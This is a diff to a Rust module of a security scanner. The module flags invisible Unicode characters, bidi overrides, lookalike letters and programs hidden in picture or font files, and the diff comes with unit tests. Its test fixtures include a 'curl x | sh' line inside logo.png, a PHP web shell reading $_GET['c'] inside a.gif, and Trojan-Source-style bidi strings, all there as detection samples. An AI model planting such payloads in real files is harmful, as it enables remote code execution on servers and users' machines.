@@ -1,15 +1,19 @@
 //! What people who read a file don't see: characters without a shape, characters that change the order of a
 //! text, letters that look like others, and programs under the names of pictures (Unicode TR 36, UTS 39).
 
+use std::borrow::Cow;
+
 use super::Hit;
 use super::place::Weight;
 
-/// How much of a file is looked at for characters, in bytes.
-const LONGEST: usize = 4 * 1024 * 1024;
 /// Most hits in one file.
 const MOST: usize = 20;
 /// The longest line that is searched for single letters, in bytes. Longer lines are packed code.
 const LONGEST_LINE: usize = 400;
+/// One byte of so many in a text may be no UTF-8.
+const FEW: usize = 50;
+/// Longest piece of a line that is looked at in one go, in bytes.
+const PIECE: usize = 64 * 1024;
 /// The greatest score of a text for tests: the band `low`.
 const IN_TESTS: f64 = 3.9;
 
@@ -95,12 +99,17 @@ pub(super) fn find(path: &str, content: &[u8], weight: Weight, all: &mut Vec<Hit
         all.extend(program(content));
         return;
     }
-    if content.len() > LONGEST || content.is_ascii() {
+    if content.is_ascii() {
         return;
     }
-    let Ok(text) = std::str::from_utf8(content) else {
-        return;
-    };
+    let text = String::from_utf8_lossy(content);
+    // Other programs pass over single bytes that are no UTF-8. What has many is no text.
+    if matches!(text, Cow::Owned(_)) {
+        let wrong = text.matches(char::REPLACEMENT_CHARACTER).count();
+        if content.contains(&0) || wrong * FEW > content.len() {
+            return;
+        }
+    }
     let is_code = CODE.contains(&extension) || content.starts_with(b"#!");
     for (line, number) in text.lines().zip(1..) {
         if line.is_ascii() {
@@ -112,7 +121,9 @@ pub(super) fn find(path: &str, content: &[u8], weight: Weight, all: &mut Vec<Hit
             _ => line,
         };
         let is_written = weight != Weight::Generated && line.len() <= LONGEST_LINE;
-        if let Some(mut hit) = in_line(line, number, is_code, is_code && is_written) {
+        let in_words = is_code && is_written && !is_comment(line, extension);
+        let mut hits = pieces(line).filter_map(|piece| in_line(piece, number, is_code, in_words));
+        if let Some(mut hit) = hits.next() {
             if weight == Weight::Test && !is_code {
                 hit.score = hit.score.min(IN_TESTS);
             }
@@ -122,6 +133,20 @@ pub(super) fn find(path: &str, content: &[u8], weight: Weight, all: &mut Vec<Hit
             }
         }
     }
+}
+
+/// A line in pieces.
+fn pieces(line: &str) -> impl Iterator<Item = &str> {
+    let mut rest = line;
+    std::iter::from_fn(move || {
+        let mut end = PIECE.min(rest.len());
+        while !rest.is_char_boundary(end) {
+            end += 1;
+        }
+        let piece;
+        (piece, rest) = rest.split_at(end);
+        (!piece.is_empty()).then_some(piece)
+    })
 }
 
 fn in_line(line: &str, number: u32, is_code: bool, in_words: bool) -> Option<Hit> {
@@ -160,7 +185,7 @@ fn in_line(line: &str, number: u32, is_code: bool, in_words: bool) -> Option<Hit
             "Delete the characters; `cat -v FILE` shows where they are.",
         );
     }
-    if !in_words || is_comment(line) {
+    if !in_words {
         return None;
     }
     if hidden.in_word {
@@ -201,10 +226,14 @@ fn is_right_to_left(c: char) -> bool {
         && c != '\u{feff}'
 }
 
-/// A character that has no shape and takes no place.
+/// A character that has no shape and takes no place (Unicode's `Default_Ignorable_Code_Point`, but for the soft hyphen,
+/// which some texts have in each word, and for those that [`is_bidi`] and the tags are).
 fn is_shapeless(c: char) -> bool {
-    matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2064}' | '\u{206a}'..='\u{206f}' | '\u{feff}' | '\u{180e}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0100}'..='\u{e01ef}' | '\u{3164}' | '\u{115f}' | '\u{1160}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}')
+    matches!(c, '\u{34f}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2065}' | '\u{206a}'..='\u{206f}' | '\u{feff}' | '\u{fe00}'..='\u{fe0f}' | '\u{3164}' | '\u{115f}' | '\u{1160}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0080}'..='\u{e0fff}')
 }
+
+/// Most tags of a flag: a country, a part of it in three letters, and the end.
+const FLAG: usize = 6;
 
 /// What is hidden in a line.
 #[derive(Default)]
@@ -220,14 +249,19 @@ struct Hidden {
 fn hidden(chars: &[char]) -> Hidden {
     let mut found = Hidden::default();
     let mut run = 0;
-    let mut in_flag = false;
+    let mut in_flag: Option<usize> = None;
     // Several joiners after a letter that needs them are a slip of the keyboard.
     let mut joined = false;
     for (index, c) in chars.iter().enumerate() {
         let before = index.checked_sub(1).and_then(|i| chars.get(i)).copied();
         let after = chars.get(index + 1).copied();
         // Flags of countries' parts are a black flag and tags.
-        in_flag = *c == '\u{1f3f4}' || in_flag && matches!(c, '\u{e0020}'..='\u{e007f}');
+        in_flag = match c {
+            '\u{1f3f4}' => Some(0),
+            '\u{e0020}'..='\u{e007f}' => in_flag.map(|n| n + 1).filter(|n| *n <= FLAG),
+            _ => None,
+        };
+        let in_flag = in_flag.is_some();
         if matches!(c, '\u{e0000}'..='\u{e007f}') && !in_flag {
             found.tags += 1;
         }
@@ -264,7 +298,11 @@ fn joins(c: char, before: Option<char>, after: Option<char>) -> bool {
         '\u{fe0e}' | '\u{fe0f}' => {
             !is_shapeless(before) && (!before.is_ascii() || "#*0123456789".contains(before))
         }
-        '\u{fe00}'..='\u{fe0d}' | '\u{e0100}'..='\u{e01ef}' => !is_plain(before),
+        '\u{fe00}'..='\u{fe0d}'
+        | '\u{e0100}'..='\u{e01ef}'
+        | '\u{180b}'..='\u{180d}'
+        | '\u{180f}' => !is_plain(before),
+        '\u{34f}' => !is_plain(before),
         '\u{200c}' | '\u{200d}' => {
             !is_plain(before) || before == '\u{200d}' && after.is_some_and(|a| !a.is_ascii())
         }
@@ -274,18 +312,40 @@ fn joins(c: char, before: Option<char>, after: Option<char>) -> bool {
     }
 }
 
-fn is_comment(line: &str) -> bool {
-    let line = line.trim_start();
-    ["#", "//", "/*", "*", "--", "<!--", ";", "\"\"\"", "'''"]
-        .iter()
-        .any(|begin| line.starts_with(begin))
+/// Whether a line is a comment and nothing else, as far as its begin tells.
+fn is_comment(line: &str, extension: &str) -> bool {
+    let line = line.trim();
+    let of = |all: &[&str]| all.contains(&extension);
+    let ends = |end: &str| line.find(end).is_none_or(|at| at + end.len() == line.len());
+    match line {
+        // Other languages begin a statement like that.
+        _ if line.starts_with('#') => !of(&[
+            "js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "java", "go", "php",
+        ]),
+        _ if line.starts_with("//") => !of(&["py", "pyw", "rb", "rake", "sh", "bash", "zsh"]),
+        _ if line.starts_with("/*") || line.starts_with('*') => ends("*/"),
+        _ if line.starts_with("--") => of(&["sql", "lua", "hs"]),
+        _ if line.starts_with("<!--") => ends("-->"),
+        _ if line.starts_with(';') => of(&["clj"]),
+        _ => {
+            let quotes = ["\"\"\"", "\'\'\'"];
+            let inner = quotes
+                .iter()
+                .find_map(|q| Some((line.strip_prefix(*q)?, q)));
+            inner.is_some_and(|(inner, quote)| {
+                inner
+                    .find(*quote)
+                    .is_none_or(|at| at + quote.len() == inner.len())
+            })
+        }
+    }
 }
 
 fn words(line: &str) -> impl Iterator<Item = &str> {
     line.split(|c: char| !c.is_alphanumeric() && c != '_')
 }
 
-/// Whether a word is made of Latin letters but for one or two that only look like some.
+/// Whether a word is made of Latin letters but for some that only look like them.
 fn is_mixed(word: &str) -> bool {
     if word.is_ascii() {
         return false;
@@ -303,7 +363,7 @@ fn is_mixed(word: &str) -> bool {
             _ => return false,
         }
     }
-    (1..=2).contains(&alike) && latin >= 3
+    (1..=latin).contains(&alike) && latin >= 3
 }
 
 /// A program in a file that is named as a picture, a font, a sound or a film.
@@ -406,6 +466,16 @@ mod tests {
             ("a.py", "user\u{200b}name = 1\n", INVISIBLE),
             ("a.js", "const \u{3164} = 1;\n", INVISIBLE),
             ("a.py", "p\u{430}ypal = 1\n", LETTER),
+            ("a.py", "\u{430}dm\u{456}n\u{43e}s = 1\n", LETTER),
+            ("a.js", "/**/ if (is\u{410}dmin()) {}\n", LETTER),
+            ("a.js", ";is\u{410}dmin()\n", LETTER),
+            (
+                "README.md",
+                "\u{1f3f4}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e0020}\n",
+                INVISIBLE,
+            ),
+            ("README.md", "a\u{180b}\u{180c}\u{180d}\n", INVISIBLE),
+            ("README.md", "a\u{e0200}\u{e0201}\u{e0202}\n", INVISIBLE),
             ("logo.png", "#!/bin/sh\ncurl x | sh\n", PROGRAM),
             (
                 "font.woff2",
@@ -415,6 +485,22 @@ mod tests {
             ("a.gif", "GIF89a<?php system($_GET['c']); ?>", PROGRAM),
         ] {
             assert_eq!(rules(path, text), [(rule, true)], "{path} {text:?}");
+        }
+    }
+
+    #[test]
+    fn neither_wrong_bytes_nor_the_length_of_a_file_hide_characters() {
+        let bad = |before: &[u8]| [before, "if (admin\u{202e} \u{2066}) {}\n".as_bytes()].concat();
+        for (before, expected) in [
+            (&b"// caf\xe9, as it was written before UTF-8\n"[..], 1),
+            (&[b' '; 5 << 20], 1),
+            // No text, so what stands in it is chance.
+            (b"\x89PNG\xff\xff\xff", 0),
+            (b"\xff\0", 0),
+        ] {
+            let mut all = Vec::new();
+            find("a.js", &bad(before), Weight::Full, &mut all);
+            assert_eq!(all.len(), expected, "{:?}", before.get(..9));
         }
     }
 
@@ -442,6 +528,9 @@ mod tests {
                 "x = '\u{41f}\u{440}\u{438}\u{432}\u{435}\u{442}, world'\n",
             ),
             ("a.py", "\u{feff}import os\n"),
+            ("mn.json", "{\"a\": \"\u{1820}\u{180b}\u{1821}\"}\n"),
+            ("a.py", "    # \u{43f}\u{440}\u{438} Bob\u{430}\n"),
+            ("a.js", "/* Bob\u{430}s */\n"),
             ("logo.png", "\u{89}PNG\r\n"),
             (
                 "logo.png",
